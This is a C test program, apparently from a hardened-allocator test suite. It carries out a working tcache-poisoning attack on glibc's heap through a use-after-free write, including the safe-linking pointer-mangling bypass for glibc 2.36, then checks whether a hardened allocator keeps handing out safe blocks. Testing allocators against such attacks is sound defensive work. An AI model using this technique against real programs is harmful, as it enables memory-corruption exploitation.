/* The classic tcache-poisoning attack. Two tcache-sized chunks are freed; a use-after-free
 * write overwrites the first 8 bytes of the most recently freed one (where glibc keeps the
 * tcache next pointer) with the address of a global; two mallocs later glibc hands out the
 * global. glibc 2.36 mangles that pointer (safe-linking), so the write applies the known
 * bypass: stored = (address of the slot >> 12) ^ target.
 *
 * argv[1]: "mangled" (safe-linking bypass, works against glibc 2.36) or "raw" (the pre-2.32
 * attack). Prints the target, the two pointers returned, and "hit yes|no". Under pyalloc it
 * then allocates many more blocks of that size, checking none is the target. */
#include "common.h"

static _Alignas(64) unsigned char target[128];

int main(int argc, char **argv) {
    CHECK(argc == 2, "usage: oob_tcache_poison mangled|raw");
    int mangled = !strcmp(argv[1], "mangled");
    size_t n = 64;
    unsigned char *a = malloc(n), *b = malloc(n);
    CHECK(a && b, "malloc");
    memset(a, 1, n);
    memset(b, 2, n);
    free(a);
    free(b);
    uintptr_t t = (uintptr_t)target;
    uintptr_t forged = mangled ? (((uintptr_t)b >> 12) ^ t) : t;
    memcpy(launder(b), &forged, sizeof forged);      /* the use-after-free write */

    void *c = malloc(n);
    void *d = malloc(n);
    printf("target %p\nfirst %p\nsecond %p\n", (void *)target, c, d);
    int hit = (uintptr_t)c == t || (uintptr_t)d == t;
    printf("hit %s\n", hit ? "yes" : "no");
    fflush(stdout);
    if (hit || !under_pyalloc()) return 0;

    CHECK(c != d, "the same block was returned twice");
    CHECK(malloc_usable_size(c) >= n && malloc_usable_size(d) >= n, "returned blocks are not live heap blocks");
    static void *more[10000];
    for (int i = 0; i < 10000; i++) {
        more[i] = malloc(n);
        CHECK(more[i] != NULL, "malloc");
        uintptr_t m = (uintptr_t)more[i];
        CHECK(m + n <= t || m >= t + sizeof target, "malloc returned %p inside the target global", more[i]);
        CHECK(more[i] != c && more[i] != d, "live block %p handed out again", more[i]);
        memset(more[i], 3, n);
    }
    printf("more ok\n");
    return 0;
}
